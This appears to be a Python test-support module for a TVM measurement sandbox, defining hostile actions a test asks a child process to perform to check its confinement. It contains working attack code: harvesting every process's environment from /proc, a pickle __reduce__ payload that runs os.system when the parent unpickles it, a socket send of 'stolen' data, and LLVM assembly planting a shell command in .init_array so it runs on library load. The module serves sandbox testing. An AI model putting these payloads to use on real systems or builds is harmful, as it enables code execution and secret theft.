"""What a program that got past admission would do in a measuring process: run a command, read the
environment and files, write outside its directory, open a socket, answer its parent with a pickle;
and the program that does it as a library loads (`LoadPlantedLibrary`).

Each is a request (``execute``) that a test sends to a real measuring child (``ChildProcess``), as
a built library's code would run there; each returns what it managed, as text.
"""

from __future__ import annotations

import os
import pickle
import socket
import stat
import struct
import subprocess
import time
from dataclasses import dataclass
from pathlib import Path


@dataclass(frozen=True)
class RunCommand:
    """Run a shell command; its output and exit status."""

    command: str

    def execute(self) -> str:
        done = subprocess.run(
            ["/bin/sh", "-c", self.command], capture_output=True, text=True, check=False
        )
        return f"{done.returncode}\n{done.stdout}{done.stderr}"


@dataclass(frozen=True)
class ReadEnvironment:
    """Every environment this process can read: its own and those of every process it sees."""

    def execute(self) -> str:
        texts = [repr(dict(os.environ))]
        for entry in Path("/proc").iterdir():
            if entry.name.isdigit():
                try:
                    texts.append((entry / "environ").read_bytes().decode(errors="replace"))
                except OSError:
                    continue
        return "\n".join(texts)


@dataclass(frozen=True)
class ReadFile:
    """A file's text, or the error reading it."""

    path: str

    def execute(self) -> str:
        try:
            return Path(self.path).read_text()
        except OSError as error:
            return f"refused: {error}"


@dataclass(frozen=True)
class WriteFile:
    """Write ``path``; what happened."""

    path: str

    def execute(self) -> str:
        try:
            Path(self.path).write_text("written by a measured program")
        except OSError as error:
            return f"refused: {error}"
        return "written"


@dataclass(frozen=True)
class Connect:
    """Open a TCP connection and send a line; what happened."""

    host: str
    port: int

    def execute(self) -> str:
        try:
            with socket.create_connection((self.host, self.port), timeout=5) as connection:
                connection.sendall(b"stolen\n")
        except OSError as error:
            return f"refused: {error}"
        return "connected"


@dataclass(frozen=True)
class PickleReply:
    """Answer the parent with a pickle whose loading runs ``command``, on every socket this
    process holds, before the real reply could go."""

    command: str

    def execute(self) -> str:
        payload = pickle.dumps(("ok", _Exploit(self.command)))
        frame = struct.pack("!i", len(payload)) + payload
        for fd in os.listdir("/proc/self/fd"):
            try:
                if stat.S_ISSOCK(os.fstat(int(fd)).st_mode):
                    os.write(int(fd), frame)
            except OSError:
                continue
        time.sleep(5)
        return "sent"


class _Exploit:
    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple:
        return (os.system, (self.command,))


def planted_program(command: str) -> object:
    """A PrimFunc whose loop carries ``pragma_import_llvm``: LLVM IR whose module assembly defines a
    function that runs ``command`` and lists it in ``.init_array``, so that loading the built
    library runs the command (x86-64)."""
    import tvm
    from tvm.script import tirx as T

    assembly = [
        ".pushsection .text", "planted:", "  subq $8, %rsp", "  leaq planted_command(%rip), %rdi",
        "  call system@PLT", "  addq $8, %rsp", "  ret", ".popsection",
        ".pushsection .rodata", "planted_command:", f"  .asciz \\22{command}\\22", ".popsection",
        ".pushsection .init_array,\\22aw\\22", "  .quad planted", ".popsection",
    ]  # fmt: skip
    llvm_ir = "".join(f'module asm "{line}"\n' for line in assembly)

    @T.prim_func
    def main(A: T.Buffer((4,), "float32")) -> None:
        for i in T.serial(4, annotations={"pragma_import_llvm": llvm_ir}):
            A[i] = T.float32(1)

    assert isinstance(main, tvm.tirx.PrimFunc)
    return main


@dataclass(frozen=True)
class LoadPlantedLibrary:
    """Build `planted_program` and load it, as a worker loads what it built: the command runs and
    writes what it saw to ``seen.txt`` in the process's directory, returned here."""

    command: str

    def execute(self) -> str:
        import tvm

        library = Path("planted.so").absolute()
        tvm.compile(planted_program(self.command), target="llvm").export_library(str(library))
        tvm.runtime.load_module(str(library))
        seen = Path("seen.txt")
        return seen.read_text() if seen.exists() else "the command wrote nothing"
